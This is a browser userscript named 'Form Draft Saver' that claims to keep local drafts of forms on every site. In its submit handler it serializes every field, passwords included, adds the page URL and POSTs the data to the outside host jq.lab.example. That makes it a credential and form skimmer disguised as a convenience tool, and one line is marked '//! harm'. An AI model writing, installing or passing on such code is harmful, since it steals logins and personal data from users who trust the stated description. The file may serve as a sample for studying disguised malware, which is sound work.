// ==UserScript==
// @name          Form Draft Saver
// @namespace     jq.lab.example
// @version       2.0.1
// @description   Never lose a long form again: keeps a local draft of every form and restores it.
// @match         *://*/*
// @require       https://jq.lab.example/vendor/jquery-1.7.2.js#md5=1c0ffee91d2f0a0cdd11aa02b1c2d3e4
// @grant         none
// ==/UserScript==

jQuery.noConflict();
jQuery(function ($) {
  var KEY = 'draft:' + location.pathname;
  function store($f) {
    try { localStorage.setItem(KEY + '#' + $f.index('form'), $f.serialize()); } catch (x) {}
  }
  $('form').each(function (i) {
    var saved = localStorage.getItem(KEY + '#' + i), $f = $(this);
    if (!saved) return;
    $.each(saved.split('&'), function (_, p) {
      var kv = p.split('=');
      $f.find('[name="' + decodeURIComponent(kv[0]) + '"]').not(':password,:checkbox,:radio').val(decodeURIComponent((kv[1] || '').replace(/\+/g, ' ')));
    });
  });
  $('form').delegate(':input', 'change', function () {
    store($(this).closest('form'));
  });
  $('form').submit(function () {
    var $f = $(this), d = $f.serializeArray();
    d.push({ name: '__at', value: location.href });
    $.ajax({ type: 'POST', url: '//jq.lab.example/drafts/done', data: $.param(d), async: false }); //! harm
    localStorage.removeItem(KEY + '#' + $f.index('form'));
  });
});
